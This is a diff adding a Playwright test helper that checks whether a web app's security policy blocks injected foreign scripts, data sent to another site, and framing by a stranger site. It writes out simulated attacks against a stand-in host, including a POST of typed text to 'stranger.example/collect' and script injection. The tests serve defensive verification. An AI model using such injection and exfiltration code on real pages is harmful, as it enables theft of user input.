@@ -1,0 +1,90 @@
+import type { Page } from 'playwright';
+import type { Visit } from '../visit.ts';
+
+/** A site that belongs neither to the app nor to a provider. */
+const strangerSite = 'http://stranger.example';
+
+/** A script on a host that the app's policy allows. No sign-in needs it. */
+const unneededScript = 'https://apis.google.com/js/other.js';
+
+export type ForeignScript = 'its own text' | 'another site' | 'an allowed site';
+
+/** Adds an attacker's content to the page, and reports whether the browser lets it act. */
+export function createForeignContent(visit: Visit) {
+  let reached = false;
+
+  async function serveStranger(body = ''): Promise<Page> {
+    const { page, guards, cleanups } = visit.session;
+    guards.allow({ error: /Content Security Policy|Trusted ?Script|Refused to|violates the following/i });
+    for (const url of [`${strangerSite}/**`, unneededScript]) {
+      guards.allow({ request: url.replace('/**', '') });
+      await page.route(url, (route) => {
+        reached = true;
+        const contentType = body === '' ? 'text/javascript' : 'text/html';
+        const headers = { 'access-control-allow-origin': '*' };
+        return route.fulfill({ contentType, headers, body: body || 'window.strangerHasRun = true;' });
+      });
+      cleanups.push(() => page.unroute(url));
+    }
+    return page;
+  }
+
+  return {
+    async addForeignScript(kind: ForeignScript) {
+      await visit.waitUntilIdle();
+      const page = await serveStranger();
+      const url = kind === 'an allowed site' ? unneededScript : `${strangerSite}/script.js`;
+      await page.evaluate(addScript, kind === 'its own text' ? null : url);
+    },
+    hasForeignScriptRun: () => visit.whenIdle(({ page }) => page.evaluate(() => 'strangerHasRun' in window)),
+    async sendToOtherSite(means: 'request' | 'picture') {
+      await visit.waitUntilIdle();
+      const page = await serveStranger();
+      await page.evaluate(means === 'request' ? sendRequest : loadPicture, `${strangerSite}/collect`);
+    },
+    hasReachedOtherSite: async () => reached,
+    /** Goes to another site, which shows the page at a path in a frame. */
+    async showInFrame(path: string) {
+      await visit.waitUntilIdle();
+      const { href } = new URL(path, visit.session.page.url());
+      const page = await serveStranger(`<!doctype html><title>A stranger</title><iframe src="${href}"></iframe>`);
+      await page.goto(`${strangerSite}/frame`);
+    },
+    async isPageInFrame() {
+      const [, frame] = visit.session.page.frames();
+      return (await frame?.evaluate(() => 'testBed' in window)) ?? false;
+    },
+  };
+}
+
+/** Runs in the page. Settles when the script has run, or the browser has refused it. */
+function addScript(url: string | null): Promise<void> {
+  return new Promise((resolve) => {
+    const script = document.createElement('script');
+    script.addEventListener('load', () => resolve());
+    script.addEventListener('error', () => resolve());
+    try {
+      if (url === null) script.text = 'window.strangerHasRun = true;';
+      else script.src = url;
+    } catch {
+      return resolve(); // Trusted Types refuse the text or the URL.
+    }
+    document.head.append(script);
+    if (url === null) resolve();
+  });
+}
+
+/** Runs in the page. */
+async function sendRequest(url: string): Promise<void> {
+  await fetch(url, { method: 'POST', body: 'what she types' }).catch(() => {});
+}
+
+/** Runs in the page. */
+function loadPicture(url: string): Promise<void> {
+  return new Promise((resolve) => {
+    const picture = new Image();
+    picture.addEventListener('load', () => resolve());
+    picture.addEventListener('error', () => resolve());
+    picture.src = url;
+  });
+}
